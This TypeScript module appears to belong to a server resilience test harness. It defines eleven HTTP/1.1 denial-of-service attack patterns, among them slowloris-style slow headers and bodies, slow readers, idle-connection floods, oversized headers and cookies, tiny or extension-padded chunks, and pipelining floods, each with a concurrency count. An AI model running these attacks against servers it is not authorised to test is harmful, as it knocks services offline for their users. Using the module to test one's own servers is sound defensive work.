/**
 * What HTTP/1.1 clients can do to a server.
 *
 * @module
 */
import { type Attack, crowd, resetting } from "./crowd.ts";

const GET = "GET / HTTP/1.1\r\nHost: a\r\n";
const POST = "POST / HTTP/1.1\r\nHost: a\r\n";
/** Between two bytes of those who are slow, in milliseconds. */
const SLOW = 1_000;

/** The target that an origin answers with 10 MB. */
export const LARGE_TARGET = "/large";

/** All of them. */
export const HTTP1_ATTACKS: readonly Attack[] = [
  crowd("slow-heads", "a byte of a head every second", 1_000, async (client) => {
    await client.send(`${GET}X-Long: `);
    await client.repeat("x", SLOW);
  }),
  crowd("slow-bodies", "a byte of a body every second", 500, async (client) => {
    await client.send(`${POST}Content-Length: 1000000\r\n\r\n`);
    await client.repeat("x", SLOW);
  }),
  crowd("slow-readers", "asks for 10 MB and reads nothing", 500, async (client) => {
    await client.send(`GET ${LARGE_TARGET} HTTP/1.1\r\nHost: a\r\n\r\n`);
    await client.wait();
  }),
  crowd("idle", "connects and says nothing", 10_000, (client) => client.drain()),
  resetting("resets", "connects, asks, resets", 32, `${GET}\r\n`),
  crowd("many-fields", "a head of 10,000 fields", 16, async (client) => {
    await Promise.all([client.send(`${GET}${"X-Field: value\r\n".repeat(10_000)}\r\n`), client.drain()]);
  }),
  crowd("huge-field", "a field without an end", 16, async (client) => {
    await client.send(`${GET}X-Long: `);
    await Promise.all([client.repeat("x".repeat(16 * 1024)), client.drain()]);
  }),
  crowd("cookies", "requests with cookies of 30 KB, as fast as they are answered", 16, async (client) => {
    await Promise.all([client.repeat(`${GET}Cookie: a=${"x".repeat(30_000)}\r\n\r\n`), client.drain()]);
  }),
  crowd("tiny-chunks", "a body without an end in chunks of one byte", 16, async (client) => {
    await client.send(`${POST}Transfer-Encoding: chunked\r\n\r\n`);
    await Promise.all([client.repeat("1\r\nx\r\n".repeat(5_000)), client.drain()]);
  }),
  crowd("chunk-extensions", "chunks of one byte with 8 KB of extensions", 16, async (client) => {
    await client.send(`${POST}Transfer-Encoding: chunked\r\n\r\n`);
    await Promise.all([client.repeat(`1;${"x".repeat(8_000)}\r\nx\r\n`), client.drain()]);
  }),
  crowd("pipelining", "requests without an end, no answer is read", 32, async (client) => {
    await client.repeat(`${GET}\r\n`.repeat(500));
  }),
];
